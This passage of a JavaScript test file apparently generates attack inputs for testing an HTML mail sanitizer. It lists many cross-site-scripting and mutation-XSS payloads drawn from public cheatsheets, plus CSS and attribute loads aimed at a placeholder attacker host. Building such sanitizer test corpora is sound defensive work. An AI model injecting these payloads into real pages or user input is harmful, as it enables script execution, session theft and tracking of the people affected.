    `<doc xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:html="http://www.w3.org/1999/xhtml"><html:style /><x xlink:href="javascript:${XSS}" xlink:type="simple">XXX</x></doc>`,
    `<card xmlns="http://www.wapforum.org/2001/wml"><onevent type="ontimer"><go href="javascript:${XSS}"/></onevent><timer value="1"/></card>`,
    `<div style=width:1px;filter:glow onfilterchange=${XSS}>x</div>`,
    `<// style=x:expression\\28${XSS}\\29>`,
    `<event-source src="${EVIL}/event" onload="${XSS}">`,
    `<a href="javascript:${XSS}"><event-source src="data:application/x-dom-event-stream,Event:click%0Adata:XXX%0A%0A" /></a>`,
    `<script<{${XSS}}/></script </>`,
    `<?xml-stylesheet type="text/css"?><root style="x:expression(${XSS})"/>`,
    `<object allowscriptaccess="always" data="${EVIL}/test.swf"></object>`,
    `<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate="onLoad" xlink:href="javascript:${XSS}" xlink:type="simple"/>`,
    `<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:${XSS}//#x"/>`,
    `<body oninput=${XSS}><input autofocus>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><set attributeName="onmouseover" to="${XSS}"/><animate attributeName="onunload" to="${XSS}"/></svg>`,
    `<div style="background:url(${EVIL}/f oo/;color:red/*/foo.jpg);">X</div>`,
    `<div style="list-style:url(${EVIL}/)\\20url(javascript:${XSS});">X</div>`,
    `<svg xmlns="http://www.w3.org/2000/svg"><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4="/></feImage></svg>`,
    `<iframe src=mhtml:${EVIL}/test.html!xss.html></iframe>`,
    `<div id=d><x xmlns="><iframe onload=${XSS}"></div>`,
    `<div style="font-family:'sans\\27\\2F\\2A\\22\\2A\\2F\\3B color\\3Ared\\3B'">X</div>`,
    `XXX<style>*{color:gre/**/en !/**/important}<!--\n--><!--*{color:red}\n*{background:url(xx:x //**/\\red/*)}</style>`,
    `<img src="x\` \`<script>${XSS}</script>"\` \`>`,
    `<title onpropertychange=${XSS}></title><title title=></title>`,
    `<a href=http://foo.bar/#x=\`y></a><img alt="\`><img src=xx:x onerror=${XSS}></a>">`,
    `<!a foo=x=\`y><img alt="\`><img src=xx:x onerror=${XSS}//">`,
    `<svg xmlns="http://www.w3.org/2000/svg"><rect fill="white" style="clip-path:url(${EVIL}/t.svg#a);fill:url(#b);filter:url(#c);marker:url(#d);mask:url(#e);stroke:url(#f);"/></svg>`,
    `<div style="background:url(/f#[a]oo/;color:red/*/foo.jpg);">X</div>`,
    `<div style="font-family:foo{bar;background:url(${EVIL}/oo};color:red/*/foo.jpg);">X</div>`,
  ];
  // Characters that one parser or another reads as a blank between the
  // parts of a tag, of an attribute or of a scheme.
  const fillers = ['\0', '\x01', '\x08', '\x0b', '\x0c', '\x0d', '\x1f', '\x7f', '/', '\u00a0', '\u2028', '\ufeff'];
  for (const f of fillers) {
    out.push(`<img${f}src=x${f}onerror${f}=${f}"${XSS}">`);
    out.push(`<a href="${f}java${f}script${f}:${XSS}">XXX</a>`);
  }
  return out;
}

// The mXSS cheatsheet's classes: where parsing the cleaned output moves,
// drops or re-namespaces nodes, so that text turns into markup.
const BREAKERS = ['b', 'big', 'blockquote', 'body', 'br', 'center', 'code', 'dd', 'div', 'dl', 'dt', 'em',
  'embed', 'h1', 'head', 'hr', 'i', 'img', 'li', 'listing', 'menu', 'meta', 'nobr', 'ol', 'p', 'pre',
  'ruby', 's', 'small', 'span', 'strong', 'strike', 'sub', 'sup', 'table', 'tt', 'u', 'ul', 'var'];

function mxssClasses() {
  const out = [
    `<select><a><img src=x onerror=${XSS}></a></select>`,
    `<select><style><input><a title="</style><img src=x onerror=${XSS}>">`,
    `<form id="outer"><div></form><form id="inner"><input formaction="javascript:${XSS}">`,
    `<form id="outer"><math><mtext></form><form id="inner"><mglyph><svg><mtext><form id="outer"><mi></form><form id="inner"><mglyph><desc><xmp><img src=x onerror=${XSS}>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${XSS}>`,
    `<table><a title="</table><img src=x onerror=${XSS}>">`,
    `<p><table><xmp><img title="</xmp><img src=x onerror=${XSS}>">`,
    `<a><mglyph><table><a><style><img src=x onerror=${XSS}></style>`,
    `<p><table><ul><li><style><img title="</style><img src=x onerror=${XSS}>">`,
    `<a id=1><table><a id=2 href="javascript:${XSS}">x</a></table></a>`,
    `<a id=1><audio>aa<altglyphdef><animatecolor><filter><fieldset><a id=2 href="javascript:${XSS}">x</fieldset></a>`,
    `<h1><a><h2></a><img src=x onerror=${XSS}>`,
    `<noscript><a title="</noscript><img src=x onerror=${XSS}>">`,
    `</p><img src=x onerror=${XSS}>`,
    `</br><img src=x onerror=${XSS}>`,
    `<table><plaintext><a><img src=x onerror=${XSS}>`,
    `<textarea><!-- test -></textarea><img src=x onerror=${XSS}>`,
    `<li><a><table><li>t<img src=x onerror=${XSS}>`,
    `<a\0 id="test" href="javascript:${XSS}">x</a>`,
    `<img\0src=x onerror=${XSS}>`,
    `<a is="x" onclick=${XSS}>x</a>`,
    `<! comment ><img src=x onerror=${XSS}> outside of comment`,
    `<!-- comment > still in comment --><img src=x onerror=${XSS}>`,
    `<svg><foreignObject><p><style><img src=x onerror=${XSS}></style></p></foreignObject></svg>`,
    `<svg><desc><style><img src=x onerror=${XSS}></style></desc></svg>`,
    `<svg><title><style><img src=x onerror=${XSS}></style></title></svg>`,
    `<math><mi><style><img src=x onerror=${XSS}></style></mi></math>`,
    `<math><mo><table><mglyph><style><img src=x onerror=${XSS}>`,
    `<math><mtext><mglyph><svg><mtext><style><img src=x onerror=${XSS}></style>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${XSS}></style></annotation-xml></math>`,
    `<math><annotation-xml><svg><style><img src=x onerror=${XSS}>`,
    `<svg><image href=x onerror=${XSS}></image></svg>`,
    `<svg><p><style><!--</style><img src=x onerror=${XSS}>--></style>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${XSS}>">`,
    `<svg><font color=red><img src=x onerror=${XSS}></font></svg>`,
    `<svg><font size=1><style><img src=x onerror=${XSS}></style></font>`,
    `<svg><font face=x></font><style><img src=x onerror=${XSS}></style>`,
    `<svg><head><a title="</head><img src=x onerror=${XSS}>">`,
    `<svg><body><a><img src=x onerror=${XSS}>`,
    `<noframes><style></noframes><xss><img src=x onerror=${XSS}></style></noframes>`,
    `<!-->` + `<p>x</p><img src=x onerror=${XSS}>-->`,
    `<!DOCTYPE HTML PUBLIC "-//W3C//DTDHTML4.01//EN" "><img src=x onerror=${XSS}>">`,
    `<p><_test>/<p><img src=x onerror=${XSS}>`,
    `<?x --><img src=x onerror=${XSS}> ?>`,
    `<noscript>&lt;img src=x onerror=${XSS}&gt;</noscript>`,
    `<svg><style>&lt;img src=x onerror=${XSS}&gt;</style></svg>`,
    `<math><style>&lt;/style&gt;&lt;img src=x onerror=${XSS}&gt;</style></math>`,
  ];
  for (const b of BREAKERS) {
    out.push(`<svg><${b}><style><img src=x onerror=${XSS}></style>`);
    out.push(`<math><mi><${b}><svg><style><img title="</style><img src=x onerror=${XSS}>">`);
  }
  return out;
}

// Every "<" the OWASP sheet lists, in front of the rest of a tag.
function lessThanSpellings() {
  const spellings = ['%3C', '&lt', '&lt;', '&LT', '&LT;', '&#60', '&#060', '&#0000060;', '&#x3c', '&#x3C;',
    '&#X03C;', '&#x000003c;', '\\x3c', '\\u003c', '\u00bc', '\uff1c', '\u2039', '\u02c2', '\u3008'];
  return spellings.map((s) => `${s}img src=x onerror=${XSS}>`);
}

// The cleaner keeps 256 open elements in view; deeper ones it leaves to
// the browser, which must still not let the mail swallow the page after it.
function nesting() {
  return [
    `${'<div>'.repeat(300)}<a href="${EVIL}/">wrap`,
    `${'<b>'.repeat(300)}<a href="${EVIL}/">wrap`,
    `${'<table><tr><td>'.repeat(100)}<a href="${EVIL}/">wrap`,
    `<b><a href="${EVIL}/">x</b>after`,
    `<a href="${EVIL}/"><p>x</a>y`,
    `<font><a href="${EVIL}/"><table><tr><td>x</font>`,
    `<center><div><a href="${EVIL}/">open`,
  ];
}

// Loads a style sheet may make by way of its properties. Pictures may come
// from the web (as <img> ones may); any other kind of request is a finding.
function remoteResources() {
  return [
    `<div style="background:url(${EVIL}/plain.png)">x</div>`,
    `<img src="${EVIL}/i.svg">`,
    `<body background="${EVIL}/b.png">`,
    `<div style="clip-path:url(${EVIL}/c.svg#c)">x</div>`,
    `<div style="filter:url(${EVIL}/f.svg#f)">x</div>`,
    `<div style="mask:url(${EVIL}/m.svg#m)">x</div>`,
    `<div style="-webkit-mask-box-image:url(${EVIL}/m.png) 1">x</div>`,
    `<div style="marker-start:url(${EVIL}/k.svg#k)">x</div>`,
    `<div style="cursor:url(${EVIL}/c.cur),auto">x</div>`,
    `<div style="border:1px solid;border-image:url(${EVIL}/b.png) 1">x</div>`,
    `<div style="shape-outside:url(${EVIL}/s.png);float:left">x</div>`,
    `<div style="offset-path:url(${EVIL}/p.svg#p)">x</div>`,
    `<ul style="list-style-image:url(${EVIL}/l.png)"><li>x</li></ul>`,
    `<style>p::before{content:url(${EVIL}/c.png)}</style><p>x</p>`,
    `<style>@counter-style c{system:cyclic;symbols:url(${EVIL}/s.png)}ol{list-style:c}</style><ol><li>x</li></ol>`,
    `<style>p{background:url(${EVIL}/a.png),url(${EVIL}/b.png)}</style><p>x</p>`,
    `<style>@media print{p{background:url(${EVIL}/print.png)}}</style>`,
    `<style>@namespace url(${EVIL}/ns);p{color:red}</style><p>x</p>`,
    `<style>@supports (background:url(${EVIL}/s.png)){p{color:red}}</style><p>x</p>`,
  ];
}

// With `strict`, even an image request to another origin is a finding (the
// cleaner means to block all of these); without, only pictures may load.
export function generatedSources() {
  return [
    { source: 'generated: scheme obfuscation', strict: true, vectors: named('scheme', obfuscatedSchemes()) },
    { source: 'generated: event handlers', strict: true, vectors: named('handler', eventHandlers()) },
    { source: 'generated: svg and mathml', strict: true, vectors: named('foreign', svgMath()) },
    { source: 'generated: css', strict: true, vectors: named('css', css()) },
    { source: 'generated: remote resources', strict: false, vectors: named('remote', remoteResources()) },
    { source: 'generated: rcdata and rawtext', strict: true, vectors: named('raw', rawText()) },
    { source: 'generated: comments', strict: true, vectors: named('comment', comments()) },
    { source: 'generated: page-level elements', strict: true, vectors: named('page', pageLevel()) },
    { source: 'generated: deep nesting', strict: true, vectors: named('nest', nesting()) },
    { source: 'generated: less-than spellings', strict: true, vectors: named('lt', lessThanSpellings()) },
    { source: 'generated: plain-text links', strict: true, vectors: named('text', plainTextLinks()) },
    { source: 'generated: header fields', strict: true, vectors: named('header', headerFields()) },
    { source: 'generated: HTML5 Security Cheatsheet classes', strict: true, vectors: named('h5sc', h5scClasses()) },
    { source: 'generated: mXSS cheatsheet classes', strict: true, vectors: named('mxss', mxssClasses()) },
  ];
}
